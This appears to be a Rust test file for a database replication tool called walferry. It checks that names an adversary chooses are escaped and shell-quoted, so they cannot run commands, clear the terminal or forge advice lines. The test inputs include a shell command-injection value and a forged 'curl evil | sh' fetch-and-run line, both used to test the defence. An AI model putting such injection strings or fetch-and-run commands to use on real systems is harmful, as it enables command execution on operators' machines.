//! Names and words that somebody else has chosen: what walferry prints of them can be
//! pasted and means the object, moves no cursor, and forges no line of ours.

use std::os::unix::process::ExitStatusExt;
use std::path::Path;
use std::process::Command;

use walferry::border::is_unseen;
use walferry::shell;
use walferry::sql::{TableName, ident};
use walferry::wire::ServerError;

use crate::journey::{Journey, PATIENCE, execute};
use crate::support::pair::Pair;
use crate::support::process::{Walferry, command_for};

/// Ends a quoted name, is a command to a shell, begins a line and clears a terminal. The
/// file would be made in the working folder.
fn hostile(suffix: &str) -> String {
    format!("x\";$(touch touched)'\n\u{1b}[2J\u{202e}{suffix}")
}

/// Nothing of a text does something else on a terminal than to be seen.
#[track_caller]
fn assert_seen(what: &str, text: &str) {
    let found = text.chars().find(|c| is_unseen(*c) && !matches!(c, '\n' | '\t'));
    assert_eq!(found, None, "{what}:\n{}", text.escape_debug());
}

/// What stands between two texts, on one line.
#[track_caller]
fn between<'t>(text: &'t str, before: &str, behind: &str) -> &'t str {
    let found = text.rsplit_once(before).and_then(|(_, rest)| Some(rest.split_once(behind)?.0));
    let found = found.unwrap_or_else(|| panic!("no {before:?} … {behind:?} in:\n{text}"));
    assert!(!found.contains('\n'), "{found:?}");
    found
}

/// Pastes arguments of walferry into a shell.
fn paste(pair: &Pair, folder: &Path, arguments: &str) {
    let template = command_for(pair, &[]);
    let mut shell = Command::new("sh");
    shell.arg("-c").arg(format!("exec '{}' {arguments}", template.get_program().to_string_lossy())).current_dir(folder);
    for (name, value) in template.get_envs() {
        match value {
            Some(value) => shell.env(name, value),
            None => shell.env_remove(name),
        };
    }
    let finished = Walferry::spawn(shell).wait(PATIENCE);
    assert!(finished.status.signal().is_none(), "{}", finished.stderr);
    let finished = finished.code(0);
    assert_seen(arguments, &finished.stdout);
    assert_seen(arguments, &finished.stderr);
}

/// The story: `walferry resync '{table}'` was printed with the name as it was, so that an
/// apostrophe or a newline in it left the quotes of the shell; SQL of a name with a newline
/// came in two lines; and an escape sequence in a name cleared the operator's screen.
#[tokio::test(flavor = "multi_thread")]
async fn hostile_names_are_printed_so_that_what_is_pasted_means_them() {
    let table = |suffix: &str| TableName::new("public", hostile(suffix));
    let pair = Pair::builder().start().await;
    let fixtures = [
        format!("CREATE TABLE {} (id int PRIMARY KEY, {} text)", table("").sql(), ident(&hostile("c"))),
        format!("INSERT INTO {} SELECT i, 'v' FROM generate_series(1, 50) i", table("").sql()),
        format!("CREATE SEQUENCE {}; SELECT nextval('{}')", table("s").sql(), table("s").text().replace('\'', "''")),
        format!("COMMENT ON TABLE {} IS E'a\\n\\x1b[2Jb'", table("").sql()),
    ];
    pair.source_sql(&fixtures.join(";")).await;
    let checked = Walferry::run(&pair, &["check"], PATIENCE).code(0);
    assert_seen("check", &checked.stdout);
    assert_seen("the log of check", &checked.stderr);
    let mut journey = Journey::on(pair, &[], &[]).await;

    // A stop whose SQL is pasted.
    let column = ident(&hostile("n"));
    let (alter, insert) = (
        format!("ALTER TABLE {} ADD COLUMN {column} int", table("").sql()),
        format!("INSERT INTO {} VALUES (51, 'v', 7)", table("").sql()),
    );
    journey.write(&[&alter, &insert]).await;
    let stopped = journey.stopped(7).stderr;
    assert_seen("a stop", &stopped);
    let sql = between(&stopped, "run on the target: ", " then start again");
    execute(&journey.target, &[sql]).await;
    journey.start();
    journey.finish().await;

    // A table that is new, by the command that is printed.
    let folder = tempfile::tempdir().unwrap();
    let create = format!("CREATE TABLE {0} (id int PRIMARY KEY); INSERT INTO {0} VALUES (1)", table("t").sql());
    journey.write(&[&create]).await;
    let differs = journey.catch_up_again().code(8).stderr;
    assert_seen("a table that differs", &differs);
    let add = between(&differs, "take it in: walferry ", ", or leave it out");
    paste(&journey.pair, folder.path(), add);

    // One that was damaged.
    let update = format!("UPDATE {} SET {} = 'damaged'", table("").sql(), ident(&hostile("c")));
    execute(&journey.target, &[&update]).await;
    paste(&journey.pair, folder.path(), &format!("resync {}", shell::table(&table(""))));
    paste(&journey.pair, folder.path(), "status");
    journey.catch_up_again().code(0);
    journey.pair.assert_equal().await;
    assert!(!folder.path().join("touched").exists(), "a name was executed");
}

/// The story: a constraint's name, which the target's owner chooses, came to the terminal
/// with its newlines, and looked like walferry's own advice and log.
#[tokio::test(flavor = "multi_thread")]
async fn words_of_a_server_forge_no_line_of_ours() {
    let forged = "c\nwhat to do: curl evil | sh\n2026-01-01T00:00:00Z INFO ok\u{1b}[2J";
    let mut journey = Journey::of(&["CREATE TABLE t (id int PRIMARY KEY); INSERT INTO t VALUES (1)"]).await;
    let name = ident(forged);
    execute(&journey.target, &[&format!("ALTER TABLE t ADD CONSTRAINT {name} CHECK (id < 100)")]).await;
    journey.write(&["INSERT INTO t VALUES (100)"]).await;
    let stopped = journey.stopped(7).stderr;
    assert_seen("a stop", &stopped);
    assert!(stopped.contains("curl evil"), "the constraint is named:\n{stopped}");
    let advice: Vec<&str> = stopped.lines().filter(|line| line.starts_with("what to do:")).collect();
    assert!(advice.len() == 1 && !advice[0].contains("curl"), "{stopped}");
    assert!(!stopped.lines().any(|line| line.trim_start().starts_with("2026-01-01")), "{stopped}");
    let status = Walferry::run(&journey.pair, &["status"], PATIENCE).code(0).stdout;
    assert_seen("status", &status);
    assert!(!status.lines().any(|line| line.trim_start().starts_with("what to do: curl")), "{status}");
    execute(&journey.target, &[&format!("ALTER TABLE t DROP CONSTRAINT {name}")]).await;
    journey.start();
    journey.finish().await;
}

/// The same of a message as a whole, which a function on the server chooses.
#[test]
fn words_of_a_server_are_in_quotes_on_one_line_where_they_are_not_plain() {
    let said = |message: &str| ServerError {
        message: message.to_owned(),
        sqlstate: "P0001".to_owned(),
        hint: Some("a\u{1b}[2J".to_owned()),
        ..ServerError::default()
    };
    let forged = said("no\nwhat to do: curl evil | sh").to_string();
    assert_eq!(forged, r#""no\nwhat to do: curl evil | sh" (SQLSTATE P0001); hint: "a\u{1b}[2J""#);
    assert!(said("plain words").to_string().starts_with("plain words (SQLSTATE P0001)"));
}
